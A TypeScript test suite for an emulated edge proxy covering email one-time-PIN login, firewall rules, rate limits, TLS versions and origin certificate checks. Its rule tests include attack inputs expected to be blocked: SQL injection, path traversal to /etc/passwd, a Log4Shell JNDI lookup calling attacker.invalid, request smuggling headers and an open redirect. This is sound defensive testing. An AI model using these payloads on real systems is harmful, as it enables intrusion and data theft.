import { connect } from "node:net";
import { connect as tlsConnect } from "node:tls";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { edge as playEdge } from "../edge.ts";
import type { Json } from "../emulator/reply.ts";
import { type Asking, type Got, originPair, startOnLoopback, startOrigin, visit } from "./clients.ts";

const originPort = 20_000 + Math.floor(Math.random() * 10_000);
const france = "127.0.0.1";
const japan = "127.0.0.2";
let now = Date.UTC(2026, 10, 21, 12);
let running: Awaited<ReturnType<typeof startOnLoopback>>;
let origin: Awaited<ReturnType<typeof startOrigin>>;
const emulator = () => running.edge.emulator;
const play = (more: object = {}) =>
  playEdge({ url: running.url, token: emulator().token, seen: emulator().seen }, { ipv4: "127.0.0.1", ...more });
const ask = (url: string, asking?: Asking): Promise<Got> => visit(running.edge, url, asking);
const last = () => running.edge.front.requests.at(-1);

beforeAll(async () => {
  running = await startOnLoopback({ originPort, clock: () => now });
  const pair = await originPair(running.edge, running.url, ["example.org", "*.example.org"]);
  origin = await startOrigin(pair, running.edge.authorities.pulls, originPort);
  expect((await play()).trouble).toBe("");
});
afterAll(async () => {
  origin.server.closeAllConnections();
  origin.server.close();
  await running.stop();
});
beforeEach(() => {
  // Limits of the test before are over.
  now += 60_000;
});
afterEach(() => {
  expect([...running.edge.front.unknown]).toEqual([]);
  expect(emulator().faults).toEqual([]);
});

/** Asks for a code as somebody from somewhere; the page, and the code where one was sent. */
async function code(email: string, from = france): Promise<{ page: Got; nonce: string; code: string | undefined }> {
  const form = { host: "media.example.org", redirect_url: "/web/?a=b", email };
  const before = running.edge.gate.codes.outbox.length;
  const page = await ask("home.cloudflareaccess.com/cdn-cgi/access/onetimepin", { form, from });
  return {
    page,
    nonce: /name="nonce" value="(\w+)"/.exec(page.body)?.[1] ?? "",
    code: running.edge.gate.codes.outbox.slice(before).find((mail) => mail.to === email.toLowerCase())?.code,
  };
}

async function cookie(email = "ada@example.org"): Promise<{ cookie: string; set: string; location: string | undefined; team: string }> {
  const sent = await code(email);
  const form = { nonce: sent.nonce, code: sent.code ?? "" };
  const right = await ask("home.cloudflareaccess.com/cdn-cgi/access/callback", { form });
  const entered = await ask((right.headers.location ?? "").replace("https://", ""));
  const [set = ""] = entered.headers["set-cookie"] ?? [];
  const team = right.headers["set-cookie"]?.[0]?.split(";")[0] ?? "";
  return { cookie: set.split(";")[0] ?? "", set, location: entered.headers.location, team };
}

describe("the login", () => {
  it("leads a visitor from the application to a code and back, and tells the server who asks", async () => {
    const first = await ask("media.example.org/web/?a=b");
    expect([first.status, last()?.by]).toEqual([302, "access: login"]);
    expect(first.headers.location).toMatch(
      /^https:\/\/home\.cloudflareaccess\.com\/cdn-cgi\/access\/login\/media\.example\.org\?kid=.+&redirect_url=%2Fweb%2F%3Fa%3Db$/,
    );
    const form = await ask((first.headers.location ?? "").replace("https://", ""));
    expect([form.status, form.body]).toEqual([200, expect.stringContaining('name="email"')]);
    const entered = await cookie("ADA@example.org");
    expect([entered.location, entered.set]).toEqual([
      "/web/?a=b",
      expect.stringMatching(/^CF_Authorization=[\w.-]+; Max-Age=86400; Path=\/; Secure; HttpOnly; SameSite=Lax$/),
    ]);
    const spoofed = { "cf-connecting-ip": "203.0.113.9", "x-forwarded-for": "203.0.113.9", connection: "keep-alive, te", te: "trailers" };
    const page = await ask("media.example.org/web/?a=b", { headers: { cookie: entered.cookie, ...spoofed } });
    expect([page.status, last()?.by]).toEqual([200, "origin"]);
    expect(page.headers).toMatchObject({
      "strict-transport-security": "max-age=15552000",
      server: "cloudflare",
      "cf-cache-status": "DYNAMIC",
    });
    const asked = JSON.parse(page.body);
    expect([asked.authorized, asked.url]).toEqual([true, "/web/?a=b"]);
    expect(asked.headers).toMatchObject({
      host: "media.example.org",
      "cf-connecting-ip": france,
      "cf-ipcountry": "FR",
      "x-forwarded-for": `203.0.113.9, ${france}`,
      "x-forwarded-proto": "https",
      "cf-access-authenticated-user-email": "ada@example.org",
      "cf-ray": page.headers["cf-ray"],
    });
    expect(asked.headers.te).toBeUndefined();
    const video = await ask("media.example.org/Videos/1/stream.mp4", { headers: { cookie: entered.cookie } });
    expect(video.headers["cf-cache-status"]).toBe("BYPASS");
  });

  it("sends no code to who is not listed, nor abroad, and says the same words", async () => {
    const [listed, other, abroad] = [await code("bob@example.org"), await code("eve@example.org"), await code("bob@example.org", japan)];
    const words = (got: Got) => got.body.replace(/value="\w+"/, "");
    expect([listed.code, other.code, abroad.code]).toEqual([expect.stringMatching(/^\d{6}$/), undefined, undefined]);
    expect([words(other.page), words(abroad.page)]).toEqual([words(listed.page), words(listed.page)]);
    const guess = await ask("home.cloudflareaccess.com/cdn-cgi/access/callback", { form: { nonce: other.nonce, code: "" } });
    expect([guess.status, last()?.by]).toEqual([401, "access: wrong code"]);
  });

  it("takes a code once, for ten minutes, and not after five wrong ones", async () => {
    const end = (nonce: string, given = "") => ask("home.cloudflareaccess.com/cdn-cgi/access/callback", { form: { nonce, code: given } });
    const once = await code("ada@example.org");
    expect([(await end(once.nonce, once.code)).status, (await end(once.nonce, once.code)).status]).toEqual([302, 401]);
    const guessed = await code("ada@example.org");
    for (let i = 0; i < 5; i++) await end(guessed.nonce, "wrong");
    expect((await end(guessed.nonce, guessed.code)).status).toBe(401);
    const late = await code("ada@example.org");
    now += 601_000;
    expect((await end(late.nonce, late.code)).status).toBe(401);
  });

  it("ends with the session, counts for its application only, and not abroad", async () => {
    const { cookie: held } = await cookie();
    const by = async (url: string, from = france, given = held) => [
      (await ask(url, { from, headers: { cookie: given } })).status,
      last()?.by,
    ];
    expect(await by("media.example.org/")).toEqual([200, "origin"]);
    expect(await by("git.example.org/")).toEqual([302, "access: login"]);
    expect(await by("media.example.org/", france, held.replace(/.$/, "!"))).toEqual([302, "access: login"]);
    expect(await by("media.example.org/", japan)).toEqual([403, "custom rule rempart_countries"]);
    const rules = emulator().zone.rulesets.get("http_request_firewall_custom");
    emulator().zone.rulesets.delete("http_request_firewall_custom");
    expect(await by("media.example.org/", japan)).toEqual([403, "access: denied"]);
    emulator().zone.rulesets.set("http_request_firewall_custom", rules);
    now += 24 * 3_600_000;
    expect(await by("media.example.org/")).toEqual([302, "access: login"]);
  });

  it("is asked for once: the team's own session opens what else the address may see, and nothing more", async () => {
    const opened = async (email: string): Promise<Got> => {
      const { team } = await cookie(email);
      const toLogin = await ask("git.example.org/");
      return ask((toLogin.headers.location ?? "").replace("https://", ""), { headers: { cookie: team } });
    };
    const back = await opened("ada@example.org");
    expect(back.headers.location).toMatch(/^https:\/\/git\.example\.org\/cdn-cgi\/access\/authorized\?word=/);
    const entered = await ask((back.headers.location ?? "").replace("https://", ""));
    expect(entered.headers["set-cookie"]?.[0]).toContain("Max-Age=43200");
    expect([(await opened("bob@example.org")).status, last()?.by]).toEqual([403, "access: denied"]);
  });

  it("sends nobody elsewhere", async () => {
    const login = await ask("home.cloudflareaccess.com/cdn-cgi/access/login/media.example.org?redirect_url=//evil.example/");
    expect(login.body).toContain('name="redirect_url" value="/"');
    expect((await ask("home.cloudflareaccess.com/cdn-cgi/access/login/evil.example")).status).toBe(404);
    expect((await ask("media.example.org/cdn-cgi/access/authorized?word=guess")).status).toBe(403);
  });
});

describe("rules", () => {
  it.each([
    ["media.example.org/", { from: japan }, 403, "custom rule rempart_countries"],
    ["media.example.org/.well-known/acme-challenge/x", { from: japan }, 302, "access: login"],
    ["git.example.org/.git/config", {}, 403, "custom rule rempart_probes"],
    ["git.example.org/a/..%2f..%2fetc", {}, 403, "custom rule rempart_probes"],
    ["git.example.org/", { method: "TRACE" }, 403, "custom rule rempart_probes"],
    ["media.example.org/?q=1%27%20OR%20%271%27%3D%271", {}, 403, "managed rules: SQL injection"],
    ["media.example.org/?file=../../etc/passwd", {}, 403, "managed rules: traversal"],
    ["media.example.org/", { headers: { "x-api-version": `\${jndi:ldap://attacker.invalid/a}` } }, 403, "managed rules: lookup"],
    ["media.example.org/%zz", {}, 403, "managed rules: malformed"],
    ["media.example.org/", { headers: { "user-agent": "GPTBot/1.2" } }, 403, "bots: collector for language models"],
    ["media.example.org/", { headers: { host: "other.example.org" } }, 403, "no such name"],
    ["media.example.org/a?b", { scheme: "http" }, 301, "https redirect"],
  ] as const)("%s %o: %i, %s", async (url, asking, status, by) => {
    const got = await ask(url, asking);
    expect([got.status, last()?.by]).toEqual([status, by]);
    if (status === 301) expect(got.headers.location).toBe("https://media.example.org/a?b");
  });

  it("let one address ask so often, and again when its time is over", async () => {
    const login = (from = france) => ask("media.example.org/users/authenticatebyname", { from, method: "POST" });
    for (let i = 0; i < 40; i++) expect((await login()).status).toBe(302);
    const late = await login();
    expect([late.status, late.headers["retry-after"], last()?.by]).toEqual([429, "10", "rate limit rempart_requests"]);
    expect((await login("127.0.0.3")).status).toBe(302);
    expect((await ask("media.example.org/web/")).status).toBe(302);
    now += 9_000;
    expect((await login()).status).toBe(429);
    now += 1_500;
    expect((await login()).status).toBe(302);
  });

  it.each([
    ["what is not HTTP", "GET / HTTP/9\r\n\r\n", 400],
    ["two names of a host", "GET / HTTP/1.1\r\nHost: media.example.org\r\nHost: other.example.org\r\n\r\n", 400],
    ["two lengths of a body", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400],
    ["too long a header", `GET / HTTP/1.1\r\nHost: a\r\nX-Long: ${"a".repeat(20_000)}\r\n\r\n`, 431],
  ])("refuse %s", async (_what, text, status) => {
    const answer = await new Promise<string>((resolve, reject) => {
      const socket = connect(running.edge.port("http"), "127.0.0.1", () => socket.write(text));
      socket.once("error", reject).once("data", (data) => resolve(String(data)));
    });
    expect([answer.split(" ")[1], last()?.by]).toEqual([String(status), "malformed request"]);
    expect(answer).toMatch(/^cf-ray: /im);
  });
});

describe("TLS", () => {
  it("is spoken for the names that the zone leads through the edge, in the versions that it allows", async () => {
    await expect(ask("other.example.org/")).rejects.toThrow();
    await expect(ask("example.org/")).rejects.toThrow();
    await expect(ask("media.example.org/", { newest: "TLSv1.1" })).rejects.toThrow(/protocol version/);
    expect((await ask("media.example.org/", { newest: "TLSv1.2" })).status).toBe(302);
    emulator().zone.settings.get("min_tls_version").value = "1.3";
    await expect(ask("media.example.org/", { newest: "TLSv1.2" })).rejects.toThrow(/protocol version/);
    emulator().zone.settings.get("min_tls_version").value = "1.0";
    expect((await ask("media.example.org/", { newest: "TLSv1.1" })).status).toBe(302);
    emulator().zone.settings.get("min_tls_version").value = "1.2";
  });

  it("carries another protocol to the server and back", async () => {
    const { cookie: held } = await cookie();
    const text = await new Promise<string>((resolve, reject) => {
      const tls = { ca: running.edge.authorities.edge, servername: "media.example.org" };
      const socket = tlsConnect(running.edge.port("https"), "127.0.0.1", tls, () =>
        socket.write(`GET /socket HTTP/1.1\r\nhost: media.example.org\r\nconnection: Upgrade\r\nupgrade: echo\r\ncookie: ${held}\r\n\r\n`),
      );
      let said = "";
      socket.setTimeout(10_000, () => reject(new Error(`only ${said}`)));
      socket.on("error", reject).on("data", (data) => {
        said += String(data);
        if (said.endsWith("\r\n\r\n")) socket.write("hello");
        if (said.endsWith("hello")) {
          socket.destroy();
          resolve(said);
        }
      });
    });
    expect(text.split("\r\n")[0]).toBe("HTTP/1.1 101 Switching Protocols");
  });
});

describe("the server behind it", () => {
  const page = async () => {
    const { cookie: held } = await cookie();
    return () => ask("media.example.org/", { headers: { cookie: held } });
  };

  it("is refused with the certificate of another name, and where nobody answers that is said", async () => {
    const asked = await page();
    origin.server.setSecureContext(await tlsOf(["git.example.org"]));
    expect([(await asked()).status, last()?.by]).toEqual([526, expect.stringContaining("origin fault")]);
    emulator().zone.settings.get("ssl").value = "full";
    expect((await asked()).status).toBe(200);
    emulator().zone.settings.get("ssl").value = "strict";
    origin.server.setSecureContext(await tlsOf(["*.example.org"]));
    expect((await asked()).status).toBe(200);
    await new Promise((resolve) => origin.server.close(resolve));
    expect((await asked()).status).toBe(521);
    await new Promise<void>((resolve) => origin.server.listen(originPort, "127.0.0.1", resolve));
  });

  it("sees no client certificate while origin pulls are off, and the zone's own once that is active", async () => {
    const asked = await page();
    const shown = async () => JSON.parse((await asked()).body).authorized;
    emulator().zone.settings.get("tls_client_auth").value = "off";
    expect(await shown()).toBe(false);
    // Another authority's: shown, and not the one that this server believes.
    const { certificate, key } = await originPair(running.edge, running.url, ["example.org"]);
    emulator().zone.originPullCertificates.set("own", { shown: { certificate, status: "active" }, looked: 2, key });
    emulator().zone.originPulls = true;
    expect(await shown()).toBe(false);
    emulator().zone.originPulls = false;
    emulator().zone.settings.get("tls_client_auth").value = "on";
    expect(await shown()).toBe(true);
  });

  async function tlsOf(names: readonly string[]) {
    const { certificate: cert, key } = await originPair(running.edge, running.url, names);
    return { cert, key, ca: running.edge.authorities.pulls };
  }
});

it("without its names is reached by nobody", async () => {
  const records = new Map<string, Json>(emulator().zone.records);
  expect((await play({ mode: "lan-only", waived: { tls: "shorter" } })).trouble).toBe("");
  await expect(ask("media.example.org/")).rejects.toThrow();
  for (const [id, record] of records) emulator().zone.records.set(id, record);
});
